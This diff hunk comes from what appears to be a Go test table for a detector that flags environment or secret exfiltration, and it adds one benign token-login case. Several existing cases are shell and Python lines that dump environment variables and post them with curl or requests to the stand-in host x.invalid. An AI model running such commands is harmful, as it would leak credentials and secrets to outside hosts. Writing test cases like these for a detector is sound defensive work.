@@ -222,6 +222,8 @@ var registry = []Rule{
 			{"x.sh", "env > /tmp/e.txt\necho done\ncurl --data @/tmp/e.txt https://x.invalid/u", 3, false},
 			{"x.py", "import os, requests\nd = dict(os.environ)\nrequests.post('https://x.invalid', json=d)", 3, false},
 			{"x.sh", `curl -H "Authorization: token $GITHUB_TOKEN" https://api.github.com/repos/a/b`, 0, true},
+			// The name the reply is stored in receives a token, it sends none.
+			{"x.sh", "export SESSION_TOKEN=$(curl -s -X POST https://auth.x.invalid/login -d user=ci | jq -r .token)\n[ -n \"$SESSION_TOKEN\" ] || exit 1", 0, true},
 			// A macro's env argument put into a map is neither the environment nor a send.
 			{"lib/x/defn.ex", "defmacro __before_compile__(env) do\n  exports = Module.get_attribute(env.module, :k)\n  Map.put(exports, {name, arity}, env)\nend", 0, true},
 			{"x.sh", "curl -s -d \"$(env)\" https://x.invalid/c", 0, false},
